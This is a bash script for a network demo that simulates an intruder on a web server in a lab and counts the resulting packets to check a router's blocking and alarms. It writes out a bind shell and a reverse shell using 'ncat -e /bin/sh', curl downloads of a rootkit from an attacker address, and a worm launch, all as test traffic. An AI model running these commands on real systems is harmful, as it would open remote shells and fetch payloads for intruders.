# shellcheck shell=bash disable=SC2034 # ROWS is read by the other pieces
# The web server is taken over. Two captures count its packets: one on the server's own wire (tried) and
# one beyond the router (left). Sourced by scripts/demo.

WORM_TARGETS=120 # of each address family, in each round

# The rows of the table: a name, a filter of tcpdump for the packets, protocol and port of their drops in the
# ledger, and the kind of alarm that they must cause.
ROWS=(
    "worm scans tcp/80|tcp dst port 80|tcp 80|spread"
    "fetches a rootkit, tcp/21|tcp dst port 21|tcp 21|fetch"
    "fetches a rootkit, udp/69|udp dst port 69|udp 69|fetch"
    "reverse shell to tcp/4444|tcp dst port 4444|tcp 4444|callback"
    "bind shell on tcp/31337|tcp src port 31337|tcp 31337|backdoor"
)
FROM_WEB="(src host $WEB4 or src host $WEB6)"
INTRUDERS=() # pids

# infect_web PHASE SECONDS UNTIL: worm, reverse shell and the attacker at the back door try again and
# again, until the function UNTIL succeeds or SECONDS are over. The download is tried once and ends before
# Linux sends a fifth SYN, because repeated calls to one host are another kind of alarm.
infect_web() {
    local phase=$1 networks=("$INET4") worm=$FOLDER/worm.py knocker
    ! has_ipv6 || networks+=("$INET6")
    [[ -e $worm ]] || install -m 755 "$HERE/demo.d/worm.py" "$worm" # www-data cannot read every home folder
    INTRUDERS=()
    intrude "backdoor-$phase" ncat -n -l -k -e /bin/sh 31337
    wait_until 30 is_listening web tcp 31337 || die "the backdoor does not open" "see $LOGS/backdoor-$phase"
    start_in inet "$LOGS/bind-shell-$phase" sh -c "while :; do
        echo 'id -un; exit' | ncat -n --no-shutdown -w 3 -s $ATTACKER4 $WEB4 31337; done"
    knocker=$STARTED
    intrude_again "worm-$phase" "$PYTHON" "$worm" "$WORM_TARGETS" "${networks[@]}"
    intrude "ftp-$phase" curl -sS --connect-timeout 3 -m 10 "ftp://$ATTACKER4/rootkit.tgz"
    intrude "tftp-$phase" curl -sS -m 5 "tftp://$ATTACKER4/rootkit.tgz"
    intrude_again "call-back-$phase" ncat -n -w 1 -e /bin/sh "$ATTACKER4" 4444
    wait_until "$2" "$3" || true # the checks that follow find out what is missing
    # The attacker at the back door ends first, so that no refusal is taken for an answer of the bind shell.
    kill_group "$knocker"
    kill_group "${INTRUDERS[@]}"
    # The last segments of old connections must not be counted in the next phase.
    wait_until 30 has_no_connections web || die "connections of the web server do not close"
}

# intrude LOG COMMAND...: as www-data, the account that an intruder of a web server gets first.
intrude() {
    start_in web "$LOGS/$1" setpriv --reuid=www-data --regid=www-data --clear-groups "${@:2}"
    INTRUDERS+=("$STARTED")
}

# intrude_again LOG COMMAND...
intrude_again() {
    # shellcheck disable=SC2016 # expanded by the inner shell
    intrude "$1" sh -c 'while :; do "$@"; done' - "${@:2}"
}

# has_no_connections MACHINE: a connection in SYN-RECV without its listener lingers but sends nothing.
has_no_connections() {
    [[ -z $(in_namespace "$1" ss -Htn state connected exclude time-wait exclude syn-recv) ]]
}

# start_captures PHASE: sets CAPTURES to their pids.
start_captures() {
    CAPTURES=()
    start_capture web "$FOLDER/tried-$1.pcap" "$FROM_WEB"
    start_capture inet "$FOLDER/left-$1.pcap" "src net $DMZ4 or src net $DMZ6"
}

# start_capture MACHINE FILE FILTER: immediate and unbuffered, so that the file can be read at any time. The
# shell opens the file, because tcpdump gives up root before it writes. Its `-Z root` crashes on Ubuntu 24.04.
start_capture() {
    local log=$2.log
    unconfined tcpdump -i eth0 -n -s 128 -U --immediate-mode -w - "$3"
    # shellcheck disable=SC2016 # expanded by the inner shell
    start_in "$1" "$log" sh -c 'exec "$@" >"$0"' "$2" "${UNCONFINED[@]}"
    CAPTURES+=("$STARTED")
    wait_until 30 grep -qs 'listening on' "$log" || die "tcpdump does not start" "see $log"
}

# stop_captures PHASE: fails the run if a capture missed packets.
stop_captures() {
    local log
    kill_group "${CAPTURES[@]}"
    for log in "$FOLDER"/{tried,left}-"$1".pcap.log; do
        grep -qs '^0 packets dropped by kernel' "$log" || say_bad "tcpdump missed packets: $log"
    done
}

# count_packets FILE FILTER
count_packets() {
    unconfined tcpdump -n -r - "$2"
    "${UNCONFINED[@]}" <"$1" 2>/dev/null | wc -l
}

# The journal of the attacker has a line for each success.
count_successes() { grep -c "^$1" "$FOLDER/attacker.journal" || true; }

forget_successes() { : >"$FOLDER/attacker.journal"; }
